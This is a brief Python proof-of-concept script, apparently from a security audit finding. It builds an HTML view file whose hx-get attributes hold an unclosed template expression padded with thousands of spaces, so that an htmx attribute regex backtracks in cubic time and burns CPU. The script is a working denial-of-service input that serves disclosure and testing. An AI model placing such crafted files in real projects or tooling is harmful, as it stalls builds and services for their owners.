r"""Finding 4: an hx-get URL holding a template expression start followed by spaces and never closed:
<a hx-get="/api/${<3,000 spaces>">. htmx_attributes.EXPRESSION (\$\{\s*(.*?)\s*\}, and the
{{ … }} and <% … %> alternatives: \s* before and after a lazy .*?) backtracks in cubic time on it.
One 3 KB line costs about 20 s of CPU; LINES lines cost LINES times that.
usage: python3 build.py APP [SPACES] [LINES] [OPEN]"""
import sys
from pathlib import Path
app = Path(sys.argv[1]); n = int(sys.argv[2]) if len(sys.argv) > 2 else 3000
lines = int(sys.argv[3]) if len(sys.argv) > 3 else 3; opener = sys.argv[4] if len(sys.argv) > 4 else "${"
(app / "views").mkdir(parents=True, exist_ok=True)
(app / "views/a.html").write_text(('<a hx-get="/api/' + opener + " " * n + '">x</a>\n') * lines)
